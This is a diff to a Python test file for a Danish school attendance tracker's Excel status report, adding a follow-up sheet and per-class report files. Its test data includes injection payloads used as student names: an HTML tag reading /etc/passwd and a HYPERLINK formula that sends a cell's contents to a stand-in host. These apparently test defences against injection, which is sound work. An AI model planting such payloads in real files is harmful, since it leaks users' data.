@@ -5,13 +5,13 @@ from datetime import UTC, date, datetime, timedelta
 import pytest
 from openpyxl import load_workbook
 
-from gf2tracker.actions import contact, demo, enrolment, students
+from gf2tracker.actions import contact, demo, enrolment, followup, students
 from gf2tracker.domain.contact import ContactKind
 from gf2tracker.domain.people import LeaveReason
 from gf2tracker.errors import Refusal
 from gf2tracker.queries import status
 from gf2tracker.queries import students as student_list
-from gf2tracker.reports.status import Report, proposed_name, write_status
+from gf2tracker.reports.status import Report, proposed_name, write_each, write_status
 from tests import given
 from tests.registers import mark, take_day
 from tests.reports.openings import cells_of, rows_of
@@ -20,7 +20,7 @@ MON, TUE, WED = (date(2026, 8, 10) + timedelta(at) for at in range(3))
 TODAY = date(2026, 8, 21)
 DEMO_DAY = date(2026, 11, 19)
 MADE_BY = "Mette Kragh (MEKR)"
-SHEETS = ["Overblik", "Elever", "Fravær", "Om rapporten"]
+SHEETS = ["Overblik", "Elever", "Fravær", "Opfølgning", "Om rapporten"]
 EVIL = (
     'Bo<img src="file:///etc/passwd">',
     '=HYPERLINK("http://x.example/"&A1;"klik")',
@@ -91,7 +91,12 @@ def test_the_overview_has_a_row_for_the_class(report):
         "Elever over 10\xa0%": 1,
         "Heraf over 15\xa0%": 1,
         "Fravær i de første 14 dage": 1,
+        "Venter på nogen": 1,
         "Stoppet": 1,
+        "Heraf frafald": 1,
+        "Heraf omvalg": 0,
+        "Heraf skoleskift": 0,
+        "Aldrig mødt o.l.": 0,
         "Hvorfor": "fravær over 15\xa0%, 53 lektioner uden protokol",
     }
 
@@ -110,8 +115,51 @@ def test_the_students_sheet_has_a_row_for_each(report):
     assert (aage["De første 14 dage"], aage["Fraværsdage i de første 14 dage"]) == (1, "10.08.")
     assert (aage["Seneste kontakt"].date(), aage["Kontakt"]) == (MON, "talte med (abc)")
     assert (celik["Status"], celik["Sidste dag"].date()) == ("stoppet", TUE)
-    assert celik["Stoppet fordi"] == "fået job"
+    assert (celik["Stoppet fordi"], celik["Tæller som"]) == ("fået job", "frafald")
+    assert (aage["Heraf syg"], aage["Delvise dage"], aage["Længste periode"]) == (0, 0, 1)
+    assert (aage["Åbne signaler"], birgitte["Åbne signaler"], celik["Åbne signaler"]) == (
+        1,
+        0,
+        None,
+    )
     assert aage["Første dag"].date() == MON
+
+
+def test_the_followup_sheet_says_why_who_and_what_next(sqlite_store, tom, tmp_path):
+    jens = given.a_teacher(sqlite_store, "JEHO", "Jens Holst")
+    sqlite_store.do(followup.assign, [tom.students[0]], jens)
+    sqlite_store.do(followup.plan_next, tom.students[0], "Samtale om bussen", date(2026, 8, 24))
+    target = tmp_path / "status.xlsx"
+    write(sqlite_store, target)
+    rows = rows_of(target, "Opfølgning")
+    assert rows[1][0].endswith("hele skolen, 1 hold · 1 elev venter")
+    told = dict(zip(rows[3], rows[4], strict=True))
+    assert told["Hvorfor"].startswith("Fravær 50,0\xa0%, grænsen er 15\xa0%")
+    assert (told["Status"], told["Navn"]) == ("◆ gør noget", "Aage Ørsted Kjær")
+    assert (told["Ansvarlig"], told["Næste skridt"]) == ("Jens Holst", "Samtale om bussen")
+    assert told["Hvornår"].date() == date(2026, 8, 24)
+    assert (told["Seneste kontakt"].date(), told["Kontakt"]) == (MON, "talte med (abc)")
+    assert rows[7][0] == "Hold, hvor protokollen mangler"
+    assert rows[9][:2] == ["▲ hold øje", "tøm-26a"]
+
+
+def test_a_file_for_each_class_lies_beside_the_whole(sqlite_store, tom, tmp_path):
+    given.a_class(sqlite_store, "el-26a", students=2)
+    told, steps = answer(sqlite_store), []
+    made = write_each(
+        told,
+        tmp_path / "alt.xlsx",
+        made_by=MADE_BY,
+        today=TODAY,
+        progress=lambda *step: steps.append(step),
+    )
+    names = ["alt.xlsx", "gf2-status-el-26a-2026-08-21.xlsx", "gf2-status-tøm-26a-2026-08-21.xlsx"]
+    assert [one.file.name for one in made] == names
+    assert [one.students for one in made] == [5, 2, 3]
+    assert sorted(file.name for file in tmp_path.iterdir() if file.suffix) == sorted(names)
+    assert (steps[0][:2], steps[-1][:2]) == ((0, 3), (2, 3))
+    assert [row[2] for row in rows_of(made[2].file, "Opfølgning")[4:5]] == ["Aage Ørsted Kjær"]
+    assert rows_of(made[1].file, "Opfølgning")[4][2] is None
 
 
 def test_the_absence_sheet_has_a_sign_for_each_day(report):
@@ -145,7 +193,7 @@ def test_a_young_course_is_not_made_tiny_by_the_width_of_its_legend(report):
 def test_the_sheets_are_tables_with_frozen_headings_and_print_well(report):
     book = load_workbook(report)
     tables = [table for sheet in book.worksheets for table in sheet.tables.values()]
-    assert len({table.displayName for table in tables}) == len(tables) == 3
+    assert len({table.displayName for table in tables}) == len(tables) == 4
     for sheet in book.worksheets:
         for table in sheet.tables.values():
             headings = [cell.value for cell in sheet[table.ref][0]]
@@ -156,8 +204,8 @@ def test_the_sheets_are_tables_with_frozen_headings_and_print_well(report):
         assert sheet.sheet_properties.pageSetUpPr.fitToPage
         assert sheet.oddHeader.right.text == "Fortroligt"
         assert sheet.oddFooter.right.text == "Side &P af &N"
-    frozen = [book[name].freeze_panes for name in SHEETS[:3]]
-    assert frozen == ["C6", "D5", "E5"]
+    frozen = [book[name].freeze_panes for name in SHEETS[:4]]
+    assert frozen == ["C6", "D5", "E5", "D5"]
     assert book["Elever"].print_title_rows == "$4:$4"
     assert book["Fravær"].auto_filter.ref.startswith("A4:D")
     assert len(book["Overblik"]._charts) == 1
